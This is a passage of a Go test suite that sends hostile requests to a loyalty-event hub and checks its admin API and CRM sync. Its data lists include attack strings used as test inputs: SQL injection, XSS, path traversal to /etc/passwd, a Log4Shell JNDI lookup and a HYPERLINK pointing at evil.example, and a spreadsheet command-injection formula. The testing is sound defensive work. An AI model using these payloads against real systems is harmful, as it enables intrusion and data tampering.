		a, b := fmt.Sprintf("Mixed-Case-%d", n), fmt.Sprintf("mIXED-cASE-%d", n)
		ma, mb := r.member(a, 3), r.member(b, 4)
		r.accept(t, hxReq{ct: "application/cloudevents-batch+json", body: hxBatch(hxEvent("evt-"+a, a, ma.data()), hxEvent("evt-"+b, b, mb.data())), sign: true}, "ledger", 2)
		rec := r.expectLPM(mb)
		rec.foldKey = true
		r.mu.Lock()
		r.maybeSkipped[syncLPM]++ // the older spelling, when in the same batch
		r.mu.Unlock()
	})
}

// waitRecord waits until obj holds key (compared case-insensitively) at
// version (LoyaltyProgramMember) or at all (Contact).
func (r *hxRunner) waitRecord(t *testing.T, obj, key string, version float64) {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		for _, rec := range r.o.Records(obj) {
			if k, _ := rec[extID].(string); strings.EqualFold(k, key) && (obj != lpm || rec["Ledger_Version__c"] == version) {
				return
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("%s %s (version %v) was not written within 20s", obj, key, version)
}

// hxInjectionKeys look like attacks on the CRM's queries and pages; as keys
// (subject and data.id) they must be written verbatim. Each is at most 64
// characters (the external id field's length) and none folds onto another.
var hxInjectionKeys = []string{
	`' OR Id != '`, `x' OR '1'='1`, `%00`, `%27%20OR%201%3D1`, `%`, `_`, `*`, `?`,
	`<script>alert(1)</script>`, `../../etc/passwd`, `..\..\windows\win.ini`, `a"b`, `back\slash`,
	`Robert'); DROP TABLE Students;--`, `${jndi:ldap://evil.example/a}`, `{{7*7}}`, "\u202egnp.exe",
	"😀😀😀", "null", "M-1 OR 1=1", "semi;colon,comma", `=cmd|' /C calc'!A0`, "a\u200db", "Ωmega-ǅ-ß",
}

// hxInjectionNames go into Contact.LastName (80 characters) through the
// insecure source; data values may hold any character.
var hxInjectionNames = []string{
	`' OR Id != '`, `<img src=x onerror=alert(1)>`, `%00`, "a\r\nb", "nul\u0000byte", `../../`, "tab\there",
	`"quoted"`, `\u0041 literal`, strings.Repeat("𝔘", 80), "ZWJ 👩‍👩‍👧", "\u202e RTL", `Robert'); DROP TABLE Contact;--`,
	`=HYPERLINK("http://evil.example")`, "line\nbreak", strings.Repeat("€", 80),
}

func (r *hxRunner) injection(t *testing.T) {
	const cat = "injection-looking values"
	for _, key := range hxInjectionKeys {
		r.run(t, cat, "key "+strconv.Quote(key), func(t *testing.T) {
			m := r.member(key, int64(r.next()))
			m.Email = fmt.Sprintf("inj%d@example.com", r.next())
			r.accept(t, hxReq{ct: "application/cloudevents+json", body: hxEvent(fmt.Sprintf("evt-inj-%d", r.next()), key, m.data()).bytes(), sign: true}, "ledger", 1)
			r.expectLPM(m)
		})
	}
	for _, name := range hxInjectionNames {
		r.run(t, cat, "last name "+strconv.Quote(name), func(t *testing.T) {
			n := r.next()
			id := fmt.Sprintf("HX-INJ-%04d", n)
			m := r.member(id, int64(n))
			m.LastName = name
			r.accept(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents+json", body: hxEvent("evt-"+id, id, m.data()).bytes()}, "partner", 1)
			r.expectContact(m)
		})
	}
	r.run(t, cat, "a hostile X-Request-Id is echoed as sent", func(t *testing.T) {
		v := `"><script>alert(1)</script>`
		resp, body := r.do(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents+json", body: []byte(`{}`), hdr: [][2]string{{"X-Request-Id", v}}})
		p := r.problem(t, resp, body, 422)
		assert.Equal(t, v, resp.Header.Get("X-Request-Id"))
		assert.Equal(t, v, p.Instance)
	})
	r.run(t, cat, "an X-Request-Id over 128 characters is replaced", func(t *testing.T) {
		v := strings.Repeat("r", 129)
		resp, body := r.do(t, hxReq{path: "/v1/events/partner", ct: "application/cloudevents+json", body: []byte(`{}`), hdr: [][2]string{{"X-Request-Id", v}}})
		r.problem(t, resp, body, 422)
		assert.NotEqual(t, v, resp.Header.Get("X-Request-Id"))
		assert.NotEmpty(t, resp.Header.Get("X-Request-Id"))
	})
}

// deadLettered sends events that pass ingress by design (their values are
// the mapping's and the target's business) and must end as dead letters,
// each with its reason.
func (r *hxRunner) deadLettered(t *testing.T) {
	const cat = "passes ingress, dead-lettered later"
	type dl struct {
		name, source string
		spoil        func(m *hxMember, d hxObj) hxObj
		key          string // default the member's id
		code, reason string
	}
	cases := []dl{
		{name: "a tier the mapping does not know", source: "ledger", spoil: func(m *hxMember, d hxObj) hxObj { return d.set("tier", `"diamond"`) },
			code: "MAPPING_ERROR", reason: `diamond.*not in the map`},
		{name: "a status the mapping does not know", source: "ledger", spoil: func(m *hxMember, d hxObj) hxObj { return d.set("status", `"banned"`) },
			code: "MAPPING_ERROR", reason: `banned`},
		{name: "no enrolled_at", source: "ledger", spoil: func(m *hxMember, d hxObj) hxObj { return d.del("enrolled_at") },
			code: "MAPPING_ERROR", reason: `EnrollmentDate|enrolled_at`},
		{name: "an enrolled_at that is not a date", source: "ledger", spoil: func(m *hxMember, d hxObj) hxObj { return d.set("enrolled_at", `"not-a-date"`) },
			code: "MAPPING_ERROR", reason: `not-a-date|date`},
		{name: "an email the CRM refuses", source: "ledger", spoil: func(m *hxMember, d hxObj) hxObj { return d.set("email", `"not-an-email"`) },
			code: "INVALID_EMAIL_ADDRESS", reason: `not-an-email`},
		{name: "points that are not a number", source: "ledger", spoil: func(m *hxMember, d hxObj) hxObj { return d.set("points_balance", `"lots"`) },
			reason: `lots|Points`},
		{name: "a key of 65 characters (the CRM's field holds 64)", source: "ledger", key: strings.Repeat("k", 65),
			code: "STRING_TOO_LONG", reason: `max length=64`},
		{name: "a key of 255 bytes", source: "ledger", key: strings.Repeat("w", 255), code: "STRING_TOO_LONG", reason: `max length=64`},
		{name: "a key of 85 three-byte characters (255 bytes)", source: "ledger", key: strings.Repeat("€", 85), code: "STRING_TOO_LONG", reason: `max length=64`},
		{name: "no last name for a Contact", source: "partner", spoil: func(m *hxMember, d hxObj) hxObj { return d.del("last_name") },
			code: "MAPPING_ERROR", reason: `LastName|last_name`},
		{name: "a last name of 81 characters", source: "partner", spoil: func(m *hxMember, d hxObj) hxObj { return d.set("last_name", hxQ(strings.Repeat("𝔘", 81))) },
			code: "STRING_TOO_LONG", reason: `max length=80`},
		{name: "a phone of 41 characters", source: "partner", spoil: func(m *hxMember, d hxObj) hxObj { return d.set("phone", hxQ(strings.Repeat("9", 41))) },
			code: "STRING_TOO_LONG", reason: `max length=40`},
	}
	for _, c := range cases {
		r.run(t, cat, c.name, func(t *testing.T) {
			n := r.next()
			key := cmp.Or(c.key, fmt.Sprintf("HX-D-%04d", n))
			m := r.member(key, int64(n))
			d := m.data()
			if c.spoil != nil {
				d = c.spoil(&m, d)
			}
			q := hxReq{path: "/v1/events/" + c.source, ct: "application/cloudevents+json", body: hxEvent(fmt.Sprintf("evt-dl-%d", n), key, d).bytes(), sign: c.source == "ledger"}
			r.accept(t, q, c.source, 1)
			sync := syncLPM
			if c.source == "partner" {
				sync = hxSyncPartner
			}
			r.expectDead(sync, key, c.code, c.reason)
		})
	}
}

// ---- after the hostile requests ----

type hxSync struct {
	Name                   string
	Applied, Skipped, Dead int64
	Backlog                *int
}

func (r *hxRunner) admin(t *testing.T, method, path, token string, body []byte) (*http.Response, []byte) {
	t.Helper()
	q := hxReq{method: method, path: path, body: body}
	if token != "" {
		q.auth = "Bearer " + token
	}
	if body != nil {
		q.ct = "application/json"
	}
	return r.do(t, q)
}

func (r *hxRunner) syncs(t *testing.T) map[string]hxSync {
	t.Helper()
	resp, body := r.admin(t, "GET", "/v1/syncs", hxOperatorToken, nil)
	require.Equal(t, http.StatusOK, resp.StatusCode, "%s", body)
	var out struct{ Syncs []hxSync }
	require.NoError(t, json.Unmarshal(body, &out))
	m := map[string]hxSync{}
	for _, s := range out.Syncs {
		m[s.Name] = s
	}
	return m
}

// drain waits until each sync has an outcome for every event published on
// its topic and nothing is left on the bus.
func (r *hxRunner) drain(t *testing.T) {
	t.Helper()
	want := map[string]int{syncLPM: r.published["ledger"], hxSyncPartner: r.published["partner"]}
	var last map[string]hxSync
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		last = r.syncs(t)
		done := true
		for name, n := range want {
			s := last[name]
			if s.Backlog == nil || *s.Backlog != 0 || s.Applied+s.Skipped+s.Dead < int64(n) {
				done = false
			}
		}
		if done {
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("the syncs did not drain within 30s: %+v, want outcomes %v", last, want)
}

type hxDeadLetterJSON struct {
	ID       int64
	Sync     string
	EventID  string `json:"event_id"`
	Key      string
	Version  int64
	Reason   string
	Code     string
	Attempts int
	Event    json.RawMessage
}

func (r *hxRunner) deadLetters(t *testing.T, token, query string) []hxDeadLetterJSON {
	t.Helper()
	resp, body := r.admin(t, "GET", "/v1/dead-letters?limit=1000"+query, token, nil)
	require.Equal(t, http.StatusOK, resp.StatusCode, "%s", body)
	var out struct {
		DeadLetters []hxDeadLetterJSON `json:"dead_letters"`
	}
	require.NoError(t, json.Unmarshal(body, &out))
	return out.DeadLetters
}

func (r *hxRunner) checkDeadLetters(t *testing.T) {
	all := r.deadLetters(t, hxOperatorToken, "")
	assert.Len(t, all, len(r.dead), "one dead letter per event the mapping or the target refused, none beyond: %+v", all)
	for _, d := range r.dead {
		t.Run(d.sync+" "+strconv.Quote(hxShort(d.key)), func(t *testing.T) {
			got := r.deadLetters(t, hxOperatorToken, "&sync="+url.QueryEscape(d.sync)+"&key="+url.QueryEscape(d.key))
			folded := false
			if len(got) == 0 {
				// The store keeps a case-insensitive target's keys folded.
				got = r.deadLetters(t, hxOperatorToken, "&sync="+url.QueryEscape(d.sync)+"&key="+url.QueryEscape(strings.ToUpper(d.key)))
				folded = true
			}
			require.Len(t, got, 1, "one dead letter for key %q", d.key)
			dl := got[0]
			if d.code != "" {
				assert.Equal(t, d.code, dl.Code, "reason: %s", dl.Reason)
			}
			assert.Regexp(t, d.reason, dl.Reason)
			assert.NotEmpty(t, dl.Event, "the whole event is kept")
			assert.True(t, strings.EqualFold(d.key, dl.Key), "the letter's key %q is the event's %q", dl.Key, d.key)
			if folded {
				r.bug(t, fmt.Sprintf("GET /v1/dead-letters?sync=%s&key=<the event's subject> finds nothing: the letter's key is %q (folded), the event's %q, and the key filter does not fold",
					d.sync, hxShort(dl.Key), hxShort(d.key)))
			}
		})
	}
}

func hxShort(s string) string {
	if len(s) > 24 {
		return s[:24] + "…"
	}
	return s
}

func (r *hxRunner) adminAbuse(t *testing.T) {
	const cat = "admin API abuse"
	gets := []string{"/v1/syncs", "/v1/dead-letters", "/v1/dead-letters/summary", "/v1/audit",
		"/v1/syncs/" + syncLPM + "/latest-event?key=HX-L-0001", "/v1/syncs/" + syncLPM + "/backfill"}
	posts := []struct {
		path string
		body string
	}{
		{"/v1/dead-letters/1/replay", ""},
		{"/v1/dead-letters/discard", `{"ids":[1],"reason":"hostile"}`},
		{"/v1/syncs/" + syncLPM + "/keys/HX-L-0001/reset", `{"reason":"hostile"}`},
		{"/v1/syncs/" + syncLPM + "/backfill", ""},
	}
	unauthorized := func(t *testing.T, method, path, auth string, body []byte) {
		q := hxReq{method: method, path: path, auth: auth, body: body}
		if body != nil {
			q.ct = "application/json"
		}
		resp, b := r.do(t, q)
		p := r.problem(t, resp, b, 401)
		assert.Contains(t, p.Detail, "Authorization: Bearer")
		assert.Contains(t, resp.Header.Get("WWW-Authenticate"), "Bearer")
	}
	for _, g := range gets {
		r.run(t, cat, "no token: GET "+g, func(t *testing.T) { unauthorized(t, "GET", g, "", nil) })
	}
	for _, p := range posts {
		r.run(t, cat, "no token: POST "+p.path, func(t *testing.T) { unauthorized(t, "POST", p.path, "", []byte(p.body)) })
	}
	for _, c := range []struct{ name, auth string }{
		{"a wrong token", "Bearer not-the-token-0123456789abcdef"},
		{"a prefix of the operator token", "Bearer " + hxOperatorToken[:len(hxOperatorToken)-1]},
		{"the operator token and a character", "Bearer " + hxOperatorToken + "x"},
		{"an empty bearer", "Bearer "},
		{"Bearer alone", "Bearer"},
		{"Basic credentials", "Basic " + base64.StdEncoding.EncodeToString([]byte("ops:"+hxOperatorToken))},
		{"the token without a scheme", hxOperatorToken},
		{"Token scheme", "Token " + hxOperatorToken},
		{"two tokens", "Bearer " + hxReaderToken + " " + hxOperatorToken},
		{"the token's SHA-256", "Bearer " + fmt.Sprintf("%x", sha256.Sum256([]byte(hxOperatorToken)))},
	} {
		r.run(t, cat, c.name+" on GET /v1/dead-letters", func(t *testing.T) { unauthorized(t, "GET", "/v1/dead-letters", c.auth, nil) })
		r.run(t, cat, c.name+" on POST replay", func(t *testing.T) { unauthorized(t, "POST", "/v1/dead-letters/1/replay", c.auth, nil) })
	}
	r.run(t, cat, "the token in the query string", func(t *testing.T) {
		unauthorized(t, "GET", "/v1/dead-letters?access_token="+hxOperatorToken, "", nil)
	})
	for _, p := range posts {
		r.run(t, cat, "the read token: POST "+p.path, func(t *testing.T) {
			var body []byte
			if p.body != "" {
				body = []byte(p.body)
			}
			resp, b := r.admin(t, "POST", p.path, hxReaderToken, body)
			pr := r.problem(t, resp, b, 403)
			assert.Contains(t, pr.Detail, "needs the operator role")
			assert.Contains(t, pr.Detail, `"viewer" has the read role`)
		})
	}
	for _, g := range gets[:5] {
		r.run(t, cat, "the read token may read: GET "+g, func(t *testing.T) {
			resp, b := r.admin(t, "GET", g, hxReaderToken, nil)
			require.Equal(t, http.StatusOK, resp.StatusCode, "%s", b)
		})
	}
	r.run(t, cat, "the read token sees dead letters redacted", func(t *testing.T) {
		dls := r.deadLetters(t, hxReaderToken, "&sync="+syncLPM)
		require.NotEmpty(t, dls)
		for _, d := range dls {
			assert.NotContains(t, string(d.Event), "@example.com", "emails are redacted for the read role")
		}
	})
	// Bad ids, limits, filters.
	for _, id := range []string{"-1", "0", "abc", "1.5", "1e3", "99999999999999999999", "%20", "0x1", "1;2"} {
		r.run(t, cat, "replay id "+id, func(t *testing.T) {
			r.expect(t, hxReq{path: "/v1/dead-letters/" + id + "/replay", auth: "Bearer " + hxOperatorToken}, 400, hxF("id", "must be at least 1|an invalid integer"))
		})
	}
	r.run(t, cat, "replay of a dead letter that does not exist", func(t *testing.T) {
		r.expect(t, hxReq{path: "/v1/dead-letters/999999999/replay", auth: "Bearer " + hxOperatorToken}, 404)
	})
	for _, c := range []struct{ path, param string }{
		{"/v1/dead-letters?limit=0", "limit"}, {"/v1/dead-letters?limit=-1", "limit"}, {"/v1/dead-letters?limit=1001", "limit"},
		{"/v1/dead-letters?limit=99999999999999999999", "limit"}, {"/v1/dead-letters?limit=abc", "limit"}, {"/v1/dead-letters?limit=1.5", "limit"},
		{"/v1/dead-letters?after=-1", "after"}, {"/v1/dead-letters?after=abc", "after"}, {"/v1/dead-letters?after=99999999999999999999", "after"},
		{"/v1/audit?limit=1001", "limit"}, {"/v1/audit?limit=0", "limit"}, {"/v1/audit?after=x", "after"},
		{"/v1/dead-letters?since=yesterday", "since"}, {"/v1/dead-letters?until=2026-13-01T00:00:00Z", "until"},
		{"/v1/dead-letters?since=2026-03-02T00:00:00Z&until=2026-03-01T00:00:00Z", "until"},
		{"/v1/dead-letters?superseded=maybe", "superseded"}, {"/v1/dead-letters/summary?since=never", "since"},
		{"/v1/syncs/" + syncLPM + "/latest-event", "key"}, {"/v1/syncs/" + syncLPM + "/latest-event?key=" + strings.Repeat("k", 1025), "key"},
	} {
		r.run(t, cat, "GET "+hxShort(c.path)+" ("+c.param+")", func(t *testing.T) {
			r.expect(t, hxReq{method: "GET", path: c.path, auth: "Bearer " + hxOperatorToken}, 400,
				hxF(c.param, "must be at (least|most) \\d+|an invalid (integer|boolean)|RFC 3339|must be after since|is required|at most 1024"))
		})
	}
	r.run(t, cat, "a huge limit is refused, the largest accepted", func(t *testing.T) {
		resp, b := r.admin(t, "GET", "/v1/dead-letters?limit=1000", hxOperatorToken, nil)
		require.Equal(t, http.StatusOK, resp.StatusCode, "%s", b)
	})
	for _, q := range []string{"?foo=bar", "?sync=" + syncLPM + "&sync=other", "?limit=10&limit=2000", "?%zz=1"} {
		r.run(t, cat, "unknown or repeated query parameters "+q, func(t *testing.T) {
			resp, b := r.admin(t, "GET", "/v1/dead-letters"+q, hxOperatorToken, nil)
			if resp.StatusCode != http.StatusOK {
				r.problem(t, resp, b, 400)
			}
		})
	}
	for _, f := range []string{`' OR 1=1 --`, `%`, `_`, `*`, `" OR ""="`, `members-to-crm' OR '1'='1`} {
		r.run(t, cat, "a filter value "+strconv.Quote(f)+" matches nothing", func(t *testing.T) {
			assert.Empty(t, r.deadLetters(t, hxOperatorToken, "&sync="+url.QueryEscape(f)), "sync filter")
			assert.Empty(t, r.deadLetters(t, hxOperatorToken, "&key="+url.QueryEscape(f)), "key filter")
			resp, b := r.admin(t, "GET", "/v1/dead-letters/summary?code="+url.QueryEscape(f), hxOperatorToken, nil)
			require.Equal(t, http.StatusOK, resp.StatusCode, "%s", b)
			var s struct{ Total int }
			require.NoError(t, json.Unmarshal(b, &s))
			assert.Zero(t, s.Total)
		})
	}
	// Bodies of the operator endpoints.
	for _, c := range []struct {
		name, body string
		status     int
		fault      string
	}{
		{"not JSON", "not json", 400, "body"},
		{"an empty object", `{}`, 400, "body"},
		{"an id of 0", `{"ids":[0]}`, 400, "ids"},
		{"an id that is a string", `{"ids":["a"]}`, 400, "ids"},
		{"an unknown member", `{"ids":[1],"extra":1}`, 400, "body"},
		{"an empty filter", `{"filter":{}}`, 400, "filter"},
		{"an unknown filter criterion", `{"filter":{"nope":"x"}}`, 400, "filter"},
		{"a limit of 5000", `{"filter":{"sync":"nope"},"limit":5000}`, 400, "limit"},
		{"1001 ids", `{"ids":[` + strings.TrimSuffix(strings.Repeat("1,", 1001), ",") + `]}`, 400, "ids"},
		{"a reason of 1001 characters", `{"ids":[1],"reason":"` + strings.Repeat("r", 1001) + `"}`, 400, "reason"},
		{"a body over 256 KiB", `{"ids":[1],"reason":"` + strings.Repeat("r", 300<<10) + `"}`, 413, ""},
	} {
		r.run(t, cat, "discard with "+c.name, func(t *testing.T) {
			resp, b := r.admin(t, "POST", "/v1/dead-letters/discard", hxOperatorToken, []byte(c.body))
			if c.fault == "" {
				r.problem(t, resp, b, c.status)
				return
			}
			p := r.problem(t, resp, b, c.status)
			found := false
			for _, e := range p.Errors {
				if strings.HasPrefix(e.Field, c.fault) || strings.Contains(e.Rule, c.fault) {
					found = true
				}
			}
			assert.True(t, found, "the problem names %s: %s", c.fault, b)
		})
	}
	r.run(t, cat, "discard as text/plain", func(t *testing.T) {
		r.expect(t, hxReq{path: "/v1/dead-letters/discard", ct: "text/plain", body: []byte(`{"ids":[1]}`), auth: "Bearer " + hxOperatorToken}, 400)
	})
	for _, c := range []struct {
		name, path, body string
		status           int
		field            string
	}{
		{"no body", "/v1/syncs/" + syncLPM + "/keys/HX-L-0001/reset", "", 400, ""},
		{"no reason", "/v1/syncs/" + syncLPM + "/keys/HX-L-0001/reset", `{}`, 400, "reason"},
		{"an empty reason", "/v1/syncs/" + syncLPM + "/keys/HX-L-0001/reset", `{"reason":""}`, 400, "reason"},
		{"a blank reason", "/v1/syncs/" + syncLPM + "/keys/HX-L-0001/reset", `{"reason":"   "}`, 400, "reason"},
		{"a reason of 1001 characters", "/v1/syncs/" + syncLPM + "/keys/HX-L-0001/reset", `{"reason":"` + strings.Repeat("r", 1001) + `"}`, 400, "reason"},
		{"an unknown member", "/v1/syncs/" + syncLPM + "/keys/HX-L-0001/reset", `{"reason":"x","force":true}`, 400, ""},
		{"a key of 1025 characters", "/v1/syncs/" + syncLPM + "/keys/" + strings.Repeat("k", 1025) + "/reset", `{"reason":"x"}`, 400, "key"},
		{"an unknown sync", "/v1/syncs/no-such-sync/keys/x/reset", `{"reason":"x"}`, 404, ""},
	} {
		r.run(t, cat, "key reset with "+c.name, func(t *testing.T) {
			var body []byte
			if c.body != "" {
				body = []byte(c.body)
			}
			resp, b := r.admin(t, "POST", c.path, hxOperatorToken, body)
			if c.field == "" {
				r.problem(t, resp, b, c.status)
			} else {
				r.problem(t, resp, b, c.status, hxF(c.field, "."))
			}
		})
	}
	r.run(t, cat, "key reset by the key as the event spelled it", func(t *testing.T) {
		// A dead key of a case-insensitive target, named as its events name it.
		key := strings.Repeat("k", 65)
		resp, b := r.admin(t, "POST", "/v1/syncs/"+syncLPM+"/keys/"+key+"/reset", hxOperatorToken, []byte(`{"reason":"hostile suite: a key too long for the CRM"}`))
		if resp.StatusCode == http.StatusNotFound {
			r.bug(t, fmt.Sprintf("POST /v1/syncs/%s/keys/%s/reset answers 404 (%s): the reset looks the key up unfolded, while the guard and the dead letters hold it folded (%s)",
				syncLPM, hxShort(key), b, hxShort(strings.ToUpper(key))))
		}
		require.Equal(t, http.StatusOK, resp.StatusCode, "%s", b)
		var out struct{ Discarded []hxDeadLetterJSON }
		require.NoError(t, json.Unmarshal(b, &out))
		assert.Len(t, out.Discarded, 1, "its dead letter is discarded")
	})
	r.run(t, cat, "a backfill of an unknown sync", func(t *testing.T) {
		r.expect(t, hxReq{path: "/v1/syncs/no-such-sync/backfill", auth: "Bearer " + hxOperatorToken}, 404)
	})
	// Wrong methods: 405 with Allow, before any token is asked for.
	for _, c := range []struct{ method, path, allow string }{
		{"DELETE", "/v1/dead-letters", "GET"}, {"PUT", "/v1/syncs", "GET"}, {"POST", "/v1/syncs", "GET"},
		{"GET", "/v1/dead-letters/discard", "POST"}, {"GET", "/v1/dead-letters/1/replay", "POST"},
		{"POST", "/healthz", "GET"}, {"DELETE", "/metrics", "GET"}, {"GET", "/v1/events/ledger", "POST"},
		{"PUT", "/v1/events/partner", "POST"}, {"PATCH", "/v1/syncs/" + syncLPM + "/keys/x/reset", "POST"},
		{"DELETE", "/v1/syncs/" + syncLPM + "/backfill", "GET, POST"}, {"TRACE", "/v1/audit", "GET"},
		{"FOO", "/healthz", "GET"}, {"POST", "/v1/audit", "GET"},
	} {
		r.run(t, cat, c.method+" "+c.path, func(t *testing.T) {
			resp, b := r.do(t, hxReq{method: c.method, path: c.path})
			r.problem(t, resp, b, 405)
			assert.Equal(t, c.allow, resp.Header.Get("Allow"))
		})
	}
	for _, p := range []string{"/v1/admin", "/.env", "/v1/dead-letters/1/replay/x", "/v1/syncs/%2e%2e/backfill/x", "/v2/events/ledger"} {
		r.run(t, cat, "no such path "+p, func(t *testing.T) {
			r.expect(t, hxReq{method: "GET", path: p, auth: "Bearer " + hxOperatorToken}, 404)
		})
	}
}

// verify checks the end state: the targets hold exactly the valid events
// with their fields, the outcome logs and the bus count exactly what was
// published, the hub is the process it was at start and logged no ERROR.
func (r *hxRunner) verify(t *testing.T, pid int) {
	t.Run("the syncs' outcomes add up", func(t *testing.T) {
		s := r.syncs(t)
		deadBy := map[string]int{}
		for _, d := range r.dead {
			deadBy[d.sync]++
		}
		for name, source := range map[string]string{syncLPM: "ledger", hxSyncPartner: "partner"} {
			got := s[name]
			assert.Equal(t, int64(r.published[source]), got.Applied+got.Skipped+got.Dead, "%s: one outcome per event published, none beyond: %+v", name, got)
			assert.Equal(t, int64(deadBy[name]), got.Dead, "%s: dead", name)
			assert.GreaterOrEqual(t, got.Skipped, int64(r.skipped[name]), "%s: skipped", name)
			assert.LessOrEqual(t, got.Skipped, int64(r.skipped[name]+r.maybeSkipped[name]), "%s: skipped", name)
		}
	})
	t.Run("the metrics count exactly the events published", func(t *testing.T) {
		resp, body := r.do(t, hxReq{method: "GET", path: "/metrics"})
		require.Equal(t, http.StatusOK, resp.StatusCode)
		got := map[string]float64{}
		re := regexp.MustCompile(`(?m)^loyaltyhub_ingress_events_accepted_total\{([^}]*)\} (\S+)$`)
		for _, m := range re.FindAllStringSubmatch(string(body), -1) {
			src := regexp.MustCompile(`source="([^"]*)"`).FindStringSubmatch(m[1])
			v, err := strconv.ParseFloat(m[2], 64)
			require.NoError(t, err)
			got[src[1]] += v
		}
		for _, source := range []string{"ledger", "partner"} {
			assert.Equal(t, float64(r.published[source]), got[source], "events accepted from %s", source)
		}
	})
	t.Run("the targets hold exactly the valid events", func(t *testing.T) {
		deadline := time.Now().Add(10 * time.Second)
		var problems []string
		for {
			problems = r.compareRecords()
			if len(problems) == 0 || time.Now().After(deadline) {
				break
			}
			time.Sleep(200 * time.Millisecond)
		}
		for _, p := range problems {
			t.Error(p)
		}
	})
	t.Run("the hub never crashed", func(t *testing.T) {
		select {
		case <-r.h.exited:
			t.Fatalf("the hub exited (%s)", r.h.cmd.ProcessState)
		default:
		}
		assert.Equal(t, 1, r.h.starts, "started once")
		assert.Equal(t, pid, r.h.cmd.Process.Pid, "the same process")
		assert.NoError(t, r.h.cmd.Process.Signal(syscall.Signal(0)), "alive")
		resp, body := r.do(t, hxReq{method: "GET", path: "/healthz"})
		assert.Equal(t, http.StatusOK, resp.StatusCode, "%s", body)
	})
	t.Run("the hub logged no ERROR", func(t *testing.T) {
		logs, err := os.ReadFile(r.h.logs.Name())
		require.NoError(t, err)
		assert.Equal(t, 1, strings.Count(string(logs), "==== start"), "started once")
		for _, line := range strings.Split(string(logs), "\n") {
			if strings.Contains(line, "level=ERROR") || strings.Contains(line, "panic") {
				t.Errorf("logged: %s", line)
			}
		}
	})
}

// compareRecords lists how the targets differ from what the valid events
// must have written.
func (r *hxRunner) compareRecords() []string {
	var out []string
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, obj := range []string{lpm, hxContact} {
		seen := map[string]bool{}
		for _, rec := range r.o.Records(obj) {
			key, _ := rec[extID].(string)
			w := r.want[obj+"\x00"+hxFold(key)]
			if w == nil {
				out = append(out, fmt.Sprintf("%s %q: a record no valid event wrote: %v", obj, key, rec))
				continue
			}
			fk := obj + "\x00" + hxFold(key)
			if seen[fk] {
				out = append(out, fmt.Sprintf("%s %q: two records for one key", obj, key))
			}
			seen[fk] = true
			for f, v := range w.fields {
				got := rec[f]
				if f == extID && w.foldKey {
					if s, _ := got.(string); strings.EqualFold(s, w.key) {
						continue
					}
				}
				if got != v {
					out = append(out, fmt.Sprintf("%s %q: %s is %#v, want %#v", obj, hxShort(w.key), f, got, v))
				}
			}
			if w.versions != nil {
				id, _ := rec["Id"].(string)
				r.o.mu.Lock()
				h := slices.Clone(r.o.history[id])
				r.o.mu.Unlock()
				if !slices.Equal(h, w.versions) {
					out = append(out, fmt.Sprintf("%s %q: written with versions %v, want %v", obj, w.key, h, w.versions))
				}
			}
		}
		for k, w := range r.want {
			if w.object == obj && !seen[k] {
				out = append(out, fmt.Sprintf("%s %q: missing", obj, w.key))
			}
		}
	}
	return out
}
